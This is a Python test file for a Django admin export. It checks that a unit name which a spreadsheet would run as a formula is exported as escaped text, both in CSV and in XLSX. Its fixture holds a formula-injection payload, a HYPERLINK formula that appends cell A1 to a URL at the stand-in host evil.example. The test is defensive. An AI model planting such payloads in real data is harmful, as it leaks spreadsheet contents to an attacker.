"""Exporting units from the admin (django-import-export): a unit name that Excel or WPS
would run as a formula comes out as text, in CSV and in XLSX."""

import csv
from io import BytesIO, StringIO

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from portal.models import Region, RegionLevel, Unit, UnitKind, User

CSV, XLSX = "0", "1"  # positions in the admin's `formats`
HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"点击查看")'


@pytest.fixture
def exporting_client(client, db):
    province = Region.objects.create(name="陕西省", code="610000", level=RegionLevel.PROVINCE)
    Unit.objects.create(name=HOSTILE, kind=UnitKind.POVERTY_OFFICE, region=province)
    root = User.objects.create_superuser("root", "root@example.gov.cn", "x")
    client.force_login(root, backend="django.contrib.auth.backends.ModelBackend")
    return client


def _export(client, fmt):
    page = client.get(reverse("admin:portal_unit_export"))
    fields = [
        name
        for name, field in page.context["form"].fields.items()
        if name.startswith("unitresource_")
    ]
    response = client.post(
        reverse("admin:portal_unit_export"),
        {"resource": "0", "format": fmt, **{name: "on" for name in fields}},
    )
    assert response.status_code == 200
    return response.content


def test_a_formula_in_a_unit_name_stays_text_in_the_csv(exporting_client):
    rows = list(csv.reader(StringIO(_export(exporting_client, CSV).decode("utf-8-sig"))))
    names = [row[rows[0].index("name")] for row in rows[1:]]
    assert names == ["'" + HOSTILE]


def test_a_formula_in_a_unit_name_stays_text_in_the_workbook(exporting_client):
    sheet = load_workbook(BytesIO(_export(exporting_client, XLSX))).active
    header = [cell.value for cell in sheet[1]]
    cell = sheet.cell(row=2, column=header.index("name") + 1)
    assert (cell.value, cell.data_type, cell.quotePrefix) == (HOSTILE, "s", True)
